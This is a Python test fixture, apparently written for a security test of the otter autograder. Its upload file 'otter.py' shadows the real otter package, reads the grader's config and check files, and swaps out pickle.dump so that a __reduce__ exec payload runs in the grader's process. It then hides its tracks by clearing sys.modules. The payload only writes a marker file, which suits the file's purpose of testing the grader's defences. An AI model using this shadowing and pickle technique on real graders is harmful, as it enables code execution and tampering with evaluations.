"""Attack: an upload's `otter.py` shadows the otter package in otter's own kernel.

Uploaded beside the untouched release notebook. Stock otter starts a Jupyter kernel for
the notebook with the submission folder as its working directory; IPython puts that
folder first on `sys.path`, so the kernel's `import otter` runs this file — as the
grader's user, outside any sandbox. It records what it could reach (the autograder's
settings and checks, which otter copies into that folder) in MARKER, and replaces
`pickle.dump`, which otter's kernel uses to hand its results back to the grader process
that then unpickles them. The test substitutes MARKER with a path of its own.
"""

import os
import pickle
import sys

MARKER = "__MARKER__"

_seen = sorted(os.listdir("."))
with open(MARKER, "w") as _out:
    _out.write(f"otter.py ran as uid {os.getuid()} in {os.getcwd()}: {_seen}\n")
    for _name in ("attention_config.json", "attention_checks.py"):
        if os.path.exists(_name):
            _out.write(f"read {_name}: {len(open(_name).read())} characters\n")


class _Payload:
    """Unpickled in the grader's process: code of the upload runs there too."""

    def __reduce__(self):
        return (exec, (f"open({MARKER!r} + '.unpickled', 'w').write('ran in the grader')",))


_real_dump = pickle.dump
pickle.dump = lambda obj, f, *a, **k: _real_dump(_Payload(), f, *a, **k)
sys.modules.pop("otter", None)  # let the real package load next time, as if nothing happened
